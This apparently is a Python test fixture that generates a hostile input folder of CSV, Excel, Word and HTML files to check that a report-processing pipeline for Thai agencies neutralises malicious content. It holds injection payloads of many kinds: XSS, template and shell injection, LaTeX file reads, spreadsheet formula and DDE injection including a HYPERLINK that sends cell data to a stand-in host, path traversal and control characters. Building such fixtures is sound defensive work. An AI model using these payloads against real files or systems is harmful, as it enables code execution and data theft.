"""A raw folder sent by somebody who wishes harm: every cell tries to be more than text."""

import csv
import os
from pathlib import Path

import docx
import openpyxl

TEXTS = {
    "script": "<script>hit();alert(document.domain)</script>",
    "way out": "</script></style></title></textarea></table><img src=x onerror=hit()>",
    "comment": "<!-- ]]> --!> <![CDATA[ <svg onload=hit()> <?php hit() ?>",
    "attribute": "\" onmouseover=hit() x=\"' onfocus=hit() autofocus='",
    "markdown": "[x](javascript:hit()) ![y](https://evil.invalid/y.png) **b** `c`",
    "link": "javascript:hit()//https://evil.invalid/",
    "page as link": "data:text/html,<script>hit()</script>",
    "entities": "&lt;b&gt; &#x3c;script&#x3e; &amp;amp; &nbsp;",
    "template": "{{ cycler.__init__.__globals__.os.system('touch hit') }} {% raw %} {# x #}",
    "placeholders": "%s %(x)s {} {value} {0.__class__} ${HOME} $(touch hit) `touch hit`",
    "LaTeX": r"\input{/etc/passwd} \write18{touch hit} $\frac{a}{b}$ $x_{ \\",
    "formula": '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "command": "+cmd|' /C touch hit'!A",
    "sum": "@SUM(A:A)*cmd|x",
    "minus": "-cmd|' /C touch hit'!A",
    "tabulator": "\t=cmd|x",
    "end of line": "\r=cmd|x\n@y",
    "wide sign": "＝HYPERLINK(x)",
    "Python": "''' \"\"\"\"); __import__('os').system('touch hit') #\\",
    "Python again": "\\'; import os; os.system(\"touch hit\"); x = '\\",
    "path": "../../../../hit",
    "Windows path": "C:\\hit\\..\\\\server\\share",
    "device": "NUL",
    "dots": "name. . .",
    "right to left": "ก\u202eข\u2066ค\u2069ง\u200f",
    "invisible": "a\u200bb\u2060c\ufeffd\U000e0041e",
    "terminal": "x\x1b]0;hit\x07\x1b[31my\x9b31mz\x01\x7f",
    "not for XML": "a\x02b\x0cc\ufffed\uffffe",
}
"""By what each is; ``hit()`` and ``touch hit`` are what must never happen."""

CODES = [f"66{number:05}" for number in range(1, 8)]
"""Agencies with harmless codes, whose reports come out."""
BAD_CODES = [
    "../hit",
    "/hit",
    "CON",
    "nul",
    "COM1",
    "index",
    "a b",
    "a.",
    "..",
    "x" * 40,
    "<b>",
    "same",
    "SAME",
]
"""Codes that cannot be the names of files of their own."""

MEASURE = (
    *("agency_id", "fiscal_year", "measure", "activity", "title", "step", "responsible", "period"),
    *("monitoring", "round", "status", "result", "outcome", "problems", "suggestions", "remark", "evidence"),
)
FILE_NAMES = ("<script>hit()", "'; import os #", "=cmd|x", "{{ x }}", "x\x1b[31m\n\u202efdp", "$(touch hit)")


def _table(file: Path, heading: tuple[str, ...], rows: list[list[object]]) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    with file.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([heading, *rows])


def _measure(code: str, number: int, text: str) -> list[object]:
    texts = dict.fromkeys(MEASURE, text)
    known = {"agency_id": code, "fiscal_year": 2568, "measure": number, "activity": 1}
    return list((texts | known | {"round": "12m", "status": "done"}).values())


def write(raw: Path) -> None:
    """Writes the folder: the first agency has every text in its measures, the others one each."""
    texts = list(TEXTS.values())
    names = [[code, *texts[4 * place : 4 * place + 4]] for place, code in enumerate(CODES)]
    _table(
        raw / "agencies.csv",
        ("agency_id", "name", "type", "district", "province"),
        [*names, *([code, "ก", "", "", ""] for code in BAD_CODES)],
    )
    scores = [
        [code, year, number, f"{80 + number + year % 2}.25"]
        for code in (*CODES, *BAD_CODES)
        for year in (2567, 2568)
        for number in range(1, 11)
    ]
    heading = ("agency_id", "fiscal_year", "indicator", "score")
    _table(raw / "scores" / "all.csv", heading, scores)
    totals = [[code, 2568, "88.00", text] for code, text in zip(CODES, texts, strict=False)]
    total = ("agency_id", "fiscal_year", "published_total", "published_level")
    _table(raw / "scores" / "totals.csv", total, totals)
    _table(raw / "scores" / "bad.csv", heading, [[CODES[-1], 2567, text, text] for text in texts])
    for place, name in enumerate(FILE_NAMES):
        _table(raw / "scores" / f"{name}.csv", (*heading, texts[place]), [[CODES[-1], 2566, 1, "x", name]])
    (raw / "scores" / os.fsdecode(b"\xff\x1b.csv")).write_text("a\0b")
    (raw / f"{FILE_NAMES[0]}.txt").touch()

    first, million = CODES[0], [CODES[1], 2568, 9, 1, "x" * 1_000_000, *[""] * 4, "12m", *[""] * 7]
    rows = [_measure(first, number, text) for number, text in enumerate(texts, start=1)]
    _table(raw / "measures" / "all.csv", MEASURE, [*rows, _measure(CODES[1], 1, texts[0]), million])
    _workbook(raw / "measures" / "book.xlsx", [_measure(CODES[2], 1, TEXTS["formula"])])
    _document(raw / "measures" / "document.docx", [_measure(CODES[3], 1, TEXTS["entities"])])
    _page(raw / "measures" / "page.html", [_measure(CODES[4], 1, "x\u202ey")])
    offices = ("office", "telephone", "document_number", "date", "subject", "addressee", "opinions")
    _table(
        raw / "offices.csv",
        ("agency_id", *offices),
        [[code, *texts[place : place + len(offices)]] for place, code in enumerate(CODES)],
    )
    said = ("publisher", "title", "url", "retrieved", "note")
    sources = [["measures/all.csv", *texts[5:10]], ["scores/all.csv", TEXTS["link"], *texts[10:14]]]
    _table(raw / "sources.csv", ("file", *said), [*sources, *([text, *texts[:5]] for text in texts)])


def _workbook(file: Path, rows: list[list[object]]) -> None:
    book = openpyxl.Workbook()
    book.active.title = "'=x+y'"
    for row in [MEASURE, *rows]:
        book.active.append(row)
    for cell in book.active[2]:
        cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type
        cell.hyperlink = "javascript:hit()"
    book.save(file)


def _document(file: Path, rows: list[list[object]]) -> None:
    document = docx.Document()
    table = document.add_table(rows=0, cols=len(MEASURE))
    for row in [MEASURE, *rows]:
        for cell, text in zip(table.add_row().cells, row, strict=True):
            cell.text = str(text)
    document.save(file)


def _page(file: Path, rows: list[list[object]]) -> None:
    lines = ["<script>hit()</script><iframe src='https://evil.invalid/'></iframe><table>"]
    for row in [MEASURE, *rows]:
        lines.append("<tr>" + "".join(f"<td onclick='hit()'>{cell}&#1;</td>" for cell in row))
    file.write_text("\n".join(lines), encoding="utf-8")
